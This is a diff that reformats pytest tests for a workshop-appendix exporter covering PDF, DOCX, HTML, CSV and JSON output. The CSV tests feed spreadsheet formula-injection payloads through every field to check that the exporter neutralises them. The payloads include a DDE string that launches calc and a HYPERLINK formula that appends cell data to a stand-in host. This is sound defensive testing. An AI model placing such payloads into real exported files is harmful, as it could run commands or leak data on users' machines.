@@ -1,4 +1,5 @@
 """Every export format, parsed back: the content must really be there."""
+
 from __future__ import annotations
 
 import csv
@@ -35,16 +36,31 @@ from workshop.render.export_json import render_json
 from workshop.render.export_markdown import render_markdown
 from workshop.render.export_pdf import render_pdf
 
-RENDERERS = {"pdf": render_pdf, "docx": render_docx, "html": render_html, "md": render_markdown,
-             "csv": render_csv, "json": render_json}
+RENDERERS = {
+    "pdf": render_pdf,
+    "docx": render_docx,
+    "html": render_html,
+    "md": render_markdown,
+    "csv": render_csv,
+    "json": render_json,
+}
 LANGS = ["sv", "en"]
 APPENDIX = build_appendix()
 STATEMENT_RECORDS = APPENDIX.sections["barometer"].statements
 OPEN_SPACE = APPENDIX.sections["openspace"]
-CSV_FILES = ("positions.csv", "comments.csv", "statements.csv", "topics.csv", "notes.csv",
-             "corners.csv", "corner_comments.csv", "corner_questions.csv")  # Fyra hörn: always there
-EN_TITLE = ("Appendix – Opinion barometer and Open Space – Länsträff idéburna organisationer "
-            "Värmland, 2015-11-20")
+CSV_FILES = (
+    "positions.csv",
+    "comments.csv",
+    "statements.csv",
+    "topics.csv",
+    "notes.csv",
+    "corners.csv",
+    "corner_comments.csv",
+    "corner_questions.csv",
+)  # Fyra hörn: always there
+EN_TITLE = (
+    "Appendix – Opinion barometer and Open Space – Länsträff idéburna organisationer Värmland, 2015-11-20"
+)
 # Statements whose movers move by at least the threshold get a movement chart.
 MOVED_STATEMENTS = [s for s in STATEMENT_RECORDS if movement(s.history).moved]
 CHART_COUNT = len(STATEMENT_RECORDS) + len(MOVED_STATEMENTS) + 1  # + Open Space headcount
@@ -70,8 +86,7 @@ def other_language_only(lang: str) -> list[str]:
     return [s for s in summary_texts("en" if lang == "sv" else "sv") if s not in mine]
 
 
-SV_TITLE = ("Bilaga – Åsiktsbarometer och Open Space – Länsträff idéburna organisationer "
-            "Värmland, 2015-11-20")
+SV_TITLE = "Bilaga – Åsiktsbarometer och Open Space – Länsträff idéburna organisationer Värmland, 2015-11-20"
 
 
 def test_swedish_title_and_labels_with_catalog():
@@ -133,10 +148,10 @@ def test_pdf_document_properties(lang):
     assert len(reader.pages) >= 10  # the 20,000-character note runs over pages
     footer = reader.pages[1].extract_text()
     assert re.search(rf"\b2 \S+ {len(reader.pages)}\b", footer), "page numbers in the footer"
-    fonts = {f for page in reader.pages for f in
-             (page["/Resources"].get("/Font") or {}).values()}
-    assert all("/FontFile2" in f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"]
-               for f in fonts), "every font is embedded"
+    fonts = {f for page in reader.pages for f in (page["/Resources"].get("/Font") or {}).values()}
+    assert all(
+        "/FontFile2" in f.get_object()["/DescendantFonts"][0].get_object()["/FontDescriptor"] for f in fonts
+    ), "every font is embedded"
 
 
 # --- DOCX ---------------------------------------------------------------------
@@ -282,6 +297,7 @@ def test_csv_zip(lang):
 
 def test_csv_neutralises_formulas():
     from workshop.render.export_csv import _cell
+
     assert _cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
     assert _cell("Vanlig text") == "Vanlig text"
 
@@ -290,35 +306,65 @@ def _every_text_a_formula():
     """Every user text in every field a formula, so a column that skips the
     guard shows up whichever table it is in."""
     f = '=HYPERLINK("http://x"&A1,"klick")'
-    return replace(APPENDIX, sections={
-        "barometer": replace(APPENDIX.sections["barometer"], statements=[
-            replace(s, text="+cmd|' /C calc'!A0",
-                    comments=[replace(c, text="@SUM(1)") for c in s.comments])
-            for s in STATEMENT_RECORDS]),
-        "openspace": replace(
-            OPEN_SPACE, theme=f,
-            spaces=[replace(sp, name=f) for sp in OPEN_SPACE.spaces],
-            slots=[replace(sl, label="@SUM(1)", starts_at="=1+1") for sl in OPEN_SPACE.slots],
-            topics=[replace(tp, title=f, description="-2+3", convener="\t=1",
-                            notes=[replace(n, text=f, who="+1", when="=1") for n in tp.notes])
-                    for tp in OPEN_SPACE.topics]),
-        "fourcorners": _four_corners_all_formulas(f),
-    })
+    return replace(
+        APPENDIX,
+        sections={
+            "barometer": replace(
+                APPENDIX.sections["barometer"],
+                statements=[
+                    replace(
+                        s,
+                        text="+cmd|' /C calc'!A0",
+                        comments=[replace(c, text="@SUM(1)") for c in s.comments],
+                    )
+                    for s in STATEMENT_RECORDS
+                ],
+            ),
+            "openspace": replace(
+                OPEN_SPACE,
+                theme=f,
+                spaces=[replace(sp, name=f) for sp in OPEN_SPACE.spaces],
+                slots=[replace(sl, label="@SUM(1)", starts_at="=1+1") for sl in OPEN_SPACE.slots],
+                topics=[
+                    replace(
+                        tp,
+                        title=f,
+                        description="-2+3",
+                        convener="\t=1",
+                        notes=[replace(n, text=f, who="+1", when="=1") for n in tp.notes],
+                    )
+                    for tp in OPEN_SPACE.topics
+                ],
+            ),
+            "fourcorners": _four_corners_all_formulas(f),
+        },
+    )
 
 
 def _four_corners_all_formulas(f: str):
     from workshop.fourcorners.record import ChoiceChange, Comment, FourCornersRecord, QuestionRecord
-    return FourCornersRecord(questions=[QuestionRecord(
-        id=1, number=1, text=f, labels=(f, "+1", "-A", "@B"), final={1: 0, 2: None},
-        history=[ChoiceChange(1, 3, "=1"), ChoiceChange(1, 0, "+t"), ChoiceChange(2, None, "@t")],
-        comments=[Comment("-1+1", "=1")])])
+
+    return FourCornersRecord(
+        questions=[
+            QuestionRecord(
+                id=1,
+                number=1,
+                text=f,
+                labels=(f, "+1", "-A", "@B"),
+                final={1: 0, 2: None},
+                history=[ChoiceChange(1, 3, "=1"), ChoiceChange(1, 0, "+t"), ChoiceChange(2, None, "@t")],
+                comments=[Comment("-1+1", "=1")],
+            )
+        ]
+    )
 
 
 def test_csv_guards_every_text_cell_of_every_table():
     data = render_csv(_every_text_a_formula(), "sv")
     with zipfile.ZipFile(io.BytesIO(data)) as zf:
-        tables = {name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig"))))
-                  for name in zf.namelist()}
+        tables = {
+            name: list(csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig")))) for name in zf.namelist()
+        }
     assert sorted(tables) == sorted(CSV_FILES)
     dangerous = re.compile(r"[=+\-@\t\r]")
     for name, rows in tables.items():
@@ -353,8 +399,14 @@ def test_json(lang):
         assert statement["summary"]["sv"] == sv and statement["summary"]["en"] == en
         assert statement["summary"]["shape"]
         assert statement["summary_text"] == (sv if lang == "sv" else en)
-        assert set(statement["movement"]) >= {"participants", "moved", "towards_agree",
-                                              "towards_disagree", "mean_shift", "pairs"}
+        assert set(statement["movement"]) >= {
+            "participants",
+            "moved",
+            "towards_agree",
+            "towards_disagree",
+            "mean_shift",
+            "pairs",
+        }
     first = doc["statements"][0]
     assert first["values"] == STATEMENT_RECORDS[0].values
     assert len(first["history"]) == len(STATEMENT_RECORDS[0].history)
@@ -369,13 +421,26 @@ def test_json(lang):
 # --- Language plumbing: every label goes through gettext ----------------------------
 def test_labels_are_translated(pseudo_swedish):
     html = render_html(APPENDIX, "sv").decode("utf-8")
-    for label in ["Opinion barometer", "Summary", "Movement", "Comment", "Convener", "Coffee break",
-                  "Key points", "Proposals and next steps", "Open questions", "Peak headcount",
-                  "The agenda wall as held", "Headcount and interest", "Time", "anonymous"]:
+    for label in [
+        "Opinion barometer",
+        "Summary",
+        "Movement",
+        "Comment",
+        "Convener",
+        "Coffee break",
+        "Key points",
+        "Proposals and next steps",
+        "Open questions",
+        "Peak headcount",
+        "The agenda wall as held",
+        "Headcount and interest",
+        "Time",
+        "anonymous",
+    ]:
         assert f"⟪{label}⟫" in html, label
     assert "⟪Appendix – Opinion barometer and Open Space – Länsträff" in html
     assert "⟪Who: Arbetsgruppen⟫" in html and "⟪When: mars 2016⟫" in html
-    assert "<title id=\"chart-1\">⟪Dot plot:" in html  # chart alt texts too
+    assert '<title id="chart-1">⟪Dot plot:' in html  # chart alt texts too
     document = docx.Document(io.BytesIO(render_docx(APPENDIX, "sv")))
     assert document.paragraphs[0].text.startswith("⟪Appendix")
     assert any(p.text.startswith("⟪Comment⟫: ") for p in document.paragraphs)
@@ -386,17 +451,40 @@ def _sparse_appendices():
     from workshop.barometer.record import BarometerRecord, PositionChange, StatementRecord
     from workshop.domain.appendix import Appendix
     from workshop.openspace.record import OpenSpaceRecord, Slot, Topic
-    empty = Appendix(title="Tom", code="T0", language="sv", created_at="2026-01-01T00:00:00Z",
-                     date="2026-01-01", participants=0)
-    passes_only = StatementRecord(1, 1, "Bara pass", {1: None, 2: None},
-                                  [PositionChange(1, None, "t"), PositionChange(2, None, "t")], [])
+
+    empty = Appendix(
+        title="Tom",
+        code="T0",
+        language="sv",
+        created_at="2026-01-01T00:00:00Z",
+        date="2026-01-01",
+        participants=0,
+    )
+    passes_only = StatementRecord(
+        1,
+        1,
+        "Bara pass",
+        {1: None, 2: None},
+        [PositionChange(1, None, "t"), PositionChange(2, None, "t")],
+        [],
+    )
     half = Appendix(
-        title="Halv", code="H1", language="en", created_at="2026-01-01T00:00:00Z", date="2026-01-01",
-        participants=2, sections={
+        title="Halv",
+        code="H1",
+        language="en",
+        created_at="2026-01-01T00:00:00Z",
+        date="2026-01-01",
+        participants=2,
+        sections={
             "barometer": BarometerRecord(statements=[passes_only]),
-            "openspace": OpenSpaceRecord(theme="Tema", spaces=[],
-                                         slots=[Slot(1, "Fika", "10:00", 20, "break")],
-                                         topics=[Topic(1, "Utan plats och anteckningar")])})
+            "openspace": OpenSpaceRecord(
+                theme="Tema",
+                spaces=[],
+                slots=[Slot(1, "Fika", "10:00", 20, "break")],
+                topics=[Topic(1, "Utan plats och anteckningar")],
+            ),
+        },
+    )
     return {"empty": empty, "half": half}
 
 
